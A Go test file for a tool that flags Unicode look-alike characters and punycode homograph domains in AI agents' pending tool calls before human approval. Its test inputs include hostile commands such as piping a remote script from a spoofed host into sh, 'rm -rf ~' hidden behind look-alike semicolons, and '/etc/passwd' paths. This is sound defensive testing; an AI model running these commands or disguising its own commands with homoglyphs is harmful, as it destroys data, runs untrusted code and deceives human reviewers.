package askview

import (
	"strings"
	"testing"
	"unicode"

	"github.com/mtibben/confusables"
	"golang.org/x/text/unicode/norm"

	"github.com/askops/askops/pending"
)

// RFC 3492's decoding, on labels an attacker registers and on what is no
// punycode at all.
func TestDecodePunycode(t *testing.T) {
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"80ak6aa92e", "аррӏе", true}, // reads as apple
		{"mnchen-3ya", "münchen", true},
		{"d1acufc", "домен", true},
		{"zzzz", "", false},
		{"-", "", false},
		{"", "", false},
		{"99999999999999999", "", false}, // overflows: no code point
	}
	for _, tc := range tests {
		got, ok := decodePunycode(tc.in)
		if got != tc.want || ok != tc.ok {
			t.Errorf("decodePunycode(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

// Call reads what each kind of call approves: a cwd unlike the Ask's, a
// path, what is written, an edit's new text, any other call's arguments.
func TestCallFindsEveryPart(t *testing.T) {
	tests := []struct {
		name  string
		call  pending.Call
		args  string
		where string
	}{
		{"command", pending.Call{Kind: pending.CallCommand, Command: "rm \u2212rf x"}, "", "line 1"},
		{"its cwd", pending.Call{Kind: pending.CallCommand, Command: "make", Cwd: "/srv\u2215app"}, "", "path"},
		{"write path", pending.Call{Kind: pending.CallWrite, Path: "a\u2024go", Content: "x"}, "", "path"},
		{"write content", pending.Call{Kind: pending.CallWrite, Path: "a.go", Content: "ok\nhttps://xn--80ak6aa92e.com"}, "", "line 2"},
		{"edit new", pending.Call{Kind: pending.CallEdit, Path: "a.go", Old: "a", New: "host\uff1a22"}, "", "line 1"},
		{"other", pending.Call{}, `{"url":"https://evil\u3002example"}`, "line 2"},
	}
	for _, tc := range tests {
		a := pending.Ask{Request: pending.Request{Tool: "t", Args: tc.args, Call: tc.call, Cwd: "/srv"}}
		found := Call(a)
		if len(found) != 1 || found[0].Where() != tc.where {
			t.Errorf("%s: found %+v, want one at %s", tc.name, found, tc.where)
		}
	}
	if found := Call(pending.Ask{Request: pending.Request{Call: pending.Call{Kind: pending.CallCommand, Command: "make", Cwd: "/srv\u2215app"}, Cwd: "/srv\u2215app"}}); len(found) != 0 {
		t.Errorf("the Ask's own cwd is shown apart, not as the call's: %+v", found)
	}
	if found := LookAlikes("echo fine https://example.com:443/a-b.c"); len(found) != 0 {
		t.Errorf("plain ASCII flagged: %+v", found)
	}
}

// A finding names the word it is in; in a call's JSON arguments a secret's
// value is a word of its own that no longer says it is one, so they are
// read redacted, as every surface shows them.
func TestCallArgumentsAreReadRedacted(t *testing.T) {
	a := pending.Ask{Request: pending.Request{Tool: "login", Args: `{"user":"ana","password":"huntеr2-s3cret"}`}}
	for _, f := range Call(a) {
		if strings.Contains(f.Word, "s3cret") {
			t.Errorf("a finding shows the password: %+v", f)
		}
	}
	a.Args = `{"url":"https://gіthub.com/o/r"}`
	if found := Call(a); len(found) != 1 || !strings.Contains(found[0].Word, "gіthub.com") {
		t.Errorf("the look-alike outside any secret is not named: %+v", found)
	}
}

// The three the fourth review found unflagged: a small capital S in a
// host, DIVIDES used as a pipe, and the Greek question mark that NFC turns
// into ';'.
func TestLookAlikesFromUnicodeData(t *testing.T) {
	tests := []struct{ in, want string }{
		{"curl https://githuꜱ.com/o/r | sh", "look-alike: 'ꜱ' (U+A731) is drawn like 's'"},
		{"curl -s https://evil.example/x ∣ sh", "look-alike: '∣' (U+2223) is drawn like '|'"},
		{"ls \u037e rm -rf ~", "look-alike: '\u037e' (U+037E) is drawn like ';' (as NFC normalises it)"},
		{"echo a\ufe54 rm -rf ~", "(U+FE54) is drawn like ';'"},
		{"echo 50\u066a off", "(U+066A) is drawn like '%'"},
		{"curl https://exampⅼe.com", "(U+217C) is drawn like an ASCII letter"},
		{"cat ‹file", "(U+2039) is drawn like '<'"},
		{"echo ᐳ out", "(U+1433) is drawn like '>'"},
	}
	for _, tc := range tests {
		found := LookAlikes(tc.in)
		var whats []string
		for _, f := range found {
			whats = append(whats, f.What)
		}
		if !strings.Contains(strings.Join(whats, "\n"), tc.want) {
			t.Errorf("LookAlikes(%q) = %q, want %q", tc.in, whats, tc.want)
		}
	}
}

// shellASCII are the characters a command, a path or a host is read by:
// the shell's operators and quotes, a path's and a URL's punctuation,
// letters and digits.
const shellASCII = "|;&$/.-:><()'\"\\`*?[]{}~#!=@%^,+_" +
	"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

// Every character Unicode's confusables data (UTS 39 confusables.txt, as
// github.com/mtibben/confusables ships it) draws like one of shellASCII,
// and every one NFC or NFKC turns into such a character, is flagged in a
// host, a path and a pipeline alike; and askview's own hand lists
// (confusable, asciiLookAlike, punctuationLookAlike) are checked against
// the data, so a wrong entry shows up here.
func TestConfusablesTableCoversUnicodeData(t *testing.T) {
	target := map[string]bool{}
	for _, c := range shellASCII {
		target[confusables.Skeleton(string(c))] = true
	}
	isTarget := func(r rune) bool {
		s := string(r)
		if sk := confusables.Skeleton(s); sk != s && target[sk] {
			return true
		}
		for _, f := range []norm.Form{norm.NFC, norm.NFKC} {
			if n := f.String(s); n != s && len(n) == 1 && strings.Contains(shellASCII, n) {
				return true
			}
		}
		return false
	}
	data, flagged := 0, 0
	for r := rune(0x80); r <= unicode.MaxRune; r++ {
		if r >= 0xD800 && r <= 0xDFFF || !isTarget(r) {
			continue
		}
		data++
		ok := true
		for _, word := range []string{"https://ex" + string(r) + "mple.com", "/etc/pa" + string(r) + "swd", "a" + string(r) + "b"} {
			if len(LookAlikes("curl "+word)) == 0 {
				ok = false
				t.Errorf("U+%04X %q in %q is not flagged", r, string(r), word)
				break
			}
		}
		if ok {
			flagged++
		}
	}
	if data < 1000 {
		t.Fatalf("only %d characters in Unicode's data draw like shell or host characters: is the data there?", data)
	}
	t.Logf("characters Unicode's data draws like %d shell or host characters: %d, flagged %d", len(shellASCII), data, flagged)

	// The hand lists, each entry against the data.
	hand, beyond := 0, 0
	for _, r := range confusable + "ɡɑɒıȷɪʀɴʏʜʟɢɩɾʙƅƖǀǃꞮꭰꮪꓚꓮꓲꓳꓑꓐꓔꓫꓝꓟꓠꓢꓣꓦꓨꓬꓭꓪꓩꓰꓜ" {
		hand++
		if drawnAs(r) == "" {
			beyond++
			t.Logf("askview lists U+%04X %q as drawn like a Latin letter; Unicode's data does not (kept: it is drawn so)", r, string(r))
		}
	}
	for r := rune(0x80); r < 0x30000; r++ {
		if p := punctuationLookAlike(r, true); p != 0 {
			hand++
			if as := drawnAs(r); as == "" {
				beyond++
				t.Logf("askview lists U+%04X %q as drawn like %q; Unicode's data does not (kept: it is drawn so)", r, string(r), p)
			}
		}
	}
	t.Logf("hand-listed look-alikes checked against the data: %d, of which %d beyond it", hand, beyond)
}
